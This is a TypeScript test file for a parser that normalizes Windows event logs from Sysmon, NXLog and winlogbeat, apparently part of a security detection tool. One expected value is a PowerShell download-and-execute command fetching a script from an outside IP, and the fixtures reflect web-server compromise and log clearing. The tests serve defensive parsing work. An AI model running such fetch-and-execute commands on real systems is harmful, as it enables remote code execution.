import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { NativeEventRecord } from '../../src/normalize/native-event-record.ts';
import { windows } from '../../src/sources/windows.ts';

const context = { receivedAt: new Date('2026-03-05T00:00:00Z') };
const fixture = (file: string) =>
  JSON.parse(readFileSync(join(import.meta.dirname, '..', 'fixtures', 'sources', 'windows', file), 'utf8'));
function one(record: unknown): NativeEventRecord {
  const [event, ...more] = [windows.read(record, context)].flat();
  if (event === undefined || 'error' in event || more.length > 0) throw new Error(JSON.stringify(event));
  return event;
}
const entities = (record: unknown) =>
  one(record)
    .facts()
    .entities.map((e) => `${e.role} ${e.type}:${e.value}`);
const quoted = (record: unknown) => Object.fromEntries(one(record).facts().quoted);
const sysmon = (data: object) => ({
  EventID: 1,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Computer: 'web-02',
  TimeCreated: '2026-03-01T12:00:00Z',
  EventData: data,
});

describe('windows', () => {
  it.each([
    ['evtx turned into JSON', 'sysmon-process-evtx.json', '2026-03-01T12:00:05.649Z', 'host host:web-02.corp.example'],
    [
      'NXLog and other flat forms',
      'security-logon-nxlog.json',
      '2026-03-01T12:00:05.000Z',
      'host host:dc-01.corp.example',
    ],
    ['winlogbeat', 'powershell-winlogbeat.json', '2026-03-01T12:02:00.123Z', 'host host:laptop-9.corp.example'],
    ['an event with user data', 'log-cleared-userdata.json', '2026-03-01T12:04:00.000Z', 'actor user:otto'],
    ['a head on top and the data below', sysmon({ User: 'CORP\\mika' }), '2026-03-01T12:00:00.000Z', 'user user:mika'],
  ])('reads %s', (_, given, time, entity) => {
    const record = typeof given === 'string' ? fixture(given) : given;
    expect(one(record).event).toBe(record);
    expect(one(record).time.toISOString()).toBe(time);
    expect(entities(record)).toContain(entity);
  });

  it('reads data that is written as a list of names and values', () => {
    const data = { Data: [{ '#attributes': { Name: 'CommandLine' }, '#text': 'whoami /all' }] };
    expect(quoted(sysmon(data))).toEqual({
      event: '1 of Microsoft-Windows-Sysmon/Operational',
      'command line': 'whoami /all',
    });
  });

  it('names processes, users without their domain, and addresses', () => {
    expect(entities(fixture('sysmon-process-evtx.json'))).toEqual([
      'host host:web-02.corp.example',
      'process process:c:\\users\\public\\update.exe',
      'parent process process:c:\\windows\\system32\\inetsrv\\w3wp.exe',
      'user user:mika',
      'file file_hash:0000000000000000000000000000000000000000000000000000000000000abc',
    ]);
    expect(entities(fixture('security-logon-nxlog.json'))).toEqual([
      'host host:dc-01.corp.example',
      'source ip:198.51.100.23',
      'workstation host:laptop-7',
      'target user:hana',
    ]);
  });

  it('leaves out accounts that every machine has, and its own', () => {
    for (const user of ['NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\ANONYMOUS LOGON', 'CORP\\WEB-02$', '-'])
      expect(entities(sysmon({ User: user }))).toEqual(['host host:web-02']);
  });

  it('takes no hash of what comes with the system: it would join all machines', () => {
    const hashes = 'SHA1=0000000000000000000000000000000000000001,MD5=00000000000000000000000000000002';
    const found = (Image: string) => entities(sysmon({ Image, Hashes: hashes })).filter((e) => e.includes('file_hash'));
    expect(found('C:\\Windows\\System32\\cmd.exe')).toEqual([]);
    expect(found('C:\\Program Files\\App\\app.exe')).toEqual([]);
    expect(found('C:\\Users\\mika\\a.exe')).toEqual(['file file_hash:0000000000000000000000000000000000000001']);
  });

  it('quotes first what tells most', () => {
    expect(quoted(fixture('powershell-winlogbeat.json'))).toMatchObject({
      event: '4104 of Microsoft-Windows-PowerShell/Operational',
      script: 'Invoke-WebRequest http://203.0.113.7/a.ps1 | Invoke-Expression',
    });
    expect(Object.keys(quoted(fixture('sysmon-process-evtx.json')))).toEqual([
      'event',
      'command line',
      'parent',
      'process',
      'user',
    ]);
  });

  it('reads process ids in either notation', () => {
    const pid = (data: object) => JSON.stringify(one(sysmon(data)).facts().attributes);
    expect(pid({ NewProcessId: '0x1a4' })).toContain('"pid":420');
    expect(pid({ ProcessId: 3412 })).toContain('"pid":3412');
  });

  it('knows an event by its machine, channel, number and time', () => {
    const id = windows.eventId?.(fixture('sysmon-process-evtx.json'));
    expect(id).toBe('web-02.corp.example|Microsoft-Windows-Sysmon/Operational|67583|2026-03-01T12:00:05.649150Z');
    expect(windows.eventId?.(sysmon({}))).toBeUndefined();
  });

  it('refuses what is none', () => {
    for (const record of [
      {},
      { EventID: 1 },
      { EventID: 'login', Channel: 'Security' },
      { Channel: 'Security' },
      [],
      'a',
    ])
      expect(windows.read(record, context)).toHaveProperty('error');
  });
});
